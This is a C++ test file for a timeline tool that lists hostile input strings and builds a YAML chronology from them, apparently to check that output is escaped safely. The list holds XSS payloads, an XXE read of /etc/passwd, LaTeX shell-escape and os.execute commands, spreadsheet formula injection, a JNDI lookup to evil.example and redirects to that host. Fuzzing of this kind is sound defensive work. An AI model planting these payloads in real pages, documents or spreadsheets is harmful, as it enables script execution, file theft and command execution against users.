// SPDX-License-Identifier: MIT
#include "tests/hostile/texts.h"

#include <array>

#include <fmt/format.h>

#include "timeline/text/utf8.h"

namespace fasti::test {

namespace {

/// A double-quoted scalar of YAML.
std::string quoted(std::string_view text) {
  std::string out = "\"";
  for (std::size_t offset = 0; offset < text.size();) {
    const char32_t c = next_code_point(text, offset);
    if (c == '"' || c == '\\') {
      out += '\\';
      append_utf8(out, c);
    } else if (is_unprintable(c) || c == 0x2028 || c == 0x2029 || c == 0xFEFF) {
      out += fmt::format("\\u{:04x}", static_cast<std::uint32_t>(c));
    } else {
      append_utf8(out, c);
    }
  }
  return out + '"';
}

}  // namespace

std::span<const std::string_view> hostile_texts() {
  static constexpr auto kTexts = std::to_array<std::string_view>({
      // markup and scripts
      "<script>alert(1)</script>",
      "</script><script>alert(2)</script>",
      "</title><script>alert(3)</script>",
      "</style><script>alert(4)</script>",
      "</svg><script>alert(5)</script>",
      "--><script>alert(6)</script><!--",
      "]]><script>alert(7)</script>",
      "<img src=x onerror=alert(8)>",
      "<svg onload=alert(9)>",
      "<svg><foreignObject><iframe srcdoc='<script>alert(10)</script>'>",
      "<iframe src=javascript:alert(11)></iframe>",
      "<a href=\"javascript:alert(12)\">press</a>",
      "<form action=http://evil.example><input type=submit>",
      "<base href=http://evil.example/>",
      "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
      "<link rel=stylesheet href=http://evil.example/a.css>",
      "<style>*{display:none}</style>",
      "<math><mtext><table><mglyph><style><img src=x onerror=alert(18)>",
      "<noscript><p title=\"</noscript><img src=x onerror=alert(19)>\">",
      "<template><script>alert(20)</script></template>",
      "\" onmouseover=\"alert(21)",
      "' onfocus='alert(22)' autofocus='",
      "` onclick=alert(23) `",
      "&lt;script&gt;alert(24)&lt;/script&gt;",
      "&#60;script&#62;alert(25)&#60;/script&#62;",
      "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
      "<?xml-stylesheet href=\"javascript:alert(27)\"?>",
      // addresses
      "javascript:alert(28)",
      "JaVaScRiPt:alert(29)",
      " \tjava\nscript:alert(30)",
      "data:text/html,<script>alert(31)</script>",
      "vbscript:msgbox(32)",
      "file:///etc/passwd",
      "//evil.example/path",
      "calc.exe",
      "http://good.example/\" onclick=\"alert(35)",
      "http://good.example/>) [x](javascript:alert(36)",
      // Markdown
      "[press](javascript:alert(37))",
      "![x](javascript:alert(38))",
      "[x]: javascript:alert(39) \"title\"",
      "<javascript:alert(40)>",
      "**bold** _em_ `code` ~~gone~~ ^up^ ==mark==",
      "| a | b |\n|---|---|\n| c | d |",
      "# Heading\n\n- item\n1. item\n> quote\n\n---\n\n```html\n<b>x</b>\n```",
      "`<b>`{=html} [x]{onclick=alert(44)} ::: {onclick=alert(44)}",
      "[^1]: note [^1] [@cite] (@) :::",
      "$\\href{javascript:alert(46)}{x}$ $$x$$",
      "trailing backslash \\",
      "{{ config }} {% raw %} ${jndi:ldap://evil.example/a} <%= 1 %>",
      // LaTeX
      "\\input{/etc/passwd}",
      "\\immediate\\write18{touch owned}",
      "\\end{longtable}\\end{document}",
      "}{ $ & # ^ _ % ~ \\ -- --- `` '' ?` !`",
      "^^5cinput{/etc/passwd} ^^M",
      "\\href{run:calc}{x}\\special{pdf: x}\\directlua{os.execute('id')}",
      "[0pt] * [b",
      // formulas and records
      "=HYPERLINK(\"http://evil.example\",\"x\")",
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd",
      "END:VEVENT\r\nBEGIN:VALARM\r\nATTACH:ftp://evil.example/x;,\\",
      "::error::x\n::stop-commands::y\r\n##[add-mask]z %0A::error::",
      // diagrams
      "%%{init: {'securityLevel': 'loose'}}%% click e1 call f()",
      "a:b;c#d, 0d\n    section x\n    y :e1, 2025-01-01, 1d",
      "\"]; x [URL=\"javascript:alert(62)\"]; \\N \\G \\L",
      // controls and directions
      "\x01\x02\x07\x08\x1b[31mred\x1b]8;;http://evil.example\x07x\x1b]8;;\x07\x7f",
      "\xe2\x80\xaegnp.exe\xe2\x80\xac \xe2\x81\xa6isolate \xe2\x80\xab"
      "embed",
      "\xe2\x80\x8fעברית\xe2\x80\x8e (مرحبا) <b>",
      "line\xe2\x80\xa8separator\xe2\x80\xa9paragraph\xef\xbb\xbf\xc2\x85next",
      "\xef\xbf\xbe\xef\xb7\x90 noncharacters \xf3\xa0\x81\xa7 tag",
      "Zalgo: a\xcc\x81\xcc\x82\xcc\x83\xcc\x84\xcc\x85 "
      "\xf0\x9f\x91\xa9\xe2\x80\x8d\xf0\x9f\x94\xac",
  });
  return kTexts;
}

std::string hostile_chronology(std::size_t shift) {
  std::string sources = "sources:\n";
  std::string actors = "actors:\n";
  std::string lanes = "lanes:\n";
  std::string instruments = "instruments:\n";
  std::string events = "events:\n";
  const std::span<const std::string_view> texts = hostile_texts();
  for (std::size_t i = 0; i < texts.size(); ++i) {
    const std::string t = quoted(texts[(i + shift) % texts.size()]);
    sources += fmt::format(
        "  s{0}: {{title: {1}, publisher: {1}, author: {1}, url: {1}, note: {1}}}\n", i, t);
    lanes += fmt::format("  l{}: {{title: {}}}\n", i, t);
    actors += fmt::format("  a{0}: {{title: {1}, lane: l{0}}}\n", i, t);
    instruments += fmt::format(
        "  i{0}: {{title: {1}, by: a{0}, kind: {1}, citation: {1}, items: [{1}]}}\n", i, t);
    events += fmt::format(
        "  - {{id: e{0}, date: 2025-01-{2:02}, title: {1}, text: {1}, by: a{0}, kind: {1}, "
        "tags: [{1}], imposes: i{0},\n"
        "     sources: [{{source: s{0}, at: {1}, note: {1}}},\n"
        "       {{source: s0, date: 2024, at: {1}, rejected: {1}}}],\n"
        "     figures: [{{what: {1}, of: {1}, value: 1, unit: {1}, source: s{0}, at: {1}, note: "
        "{1}}},\n"
        "       {{what: {1}, of: {1}, value: 2, unit: {1}, source: s0}}]}}\n",
        i, t, i % 28 + 1);
  }
  return fmt::format("fasti: 1\ntitle: {}\nzone: UTC\nverified: 2025-02-01\n",
                     quoted(hostile_texts()[0])) +
         sources + lanes + actors + instruments + events;
}

}  // namespace fasti::test
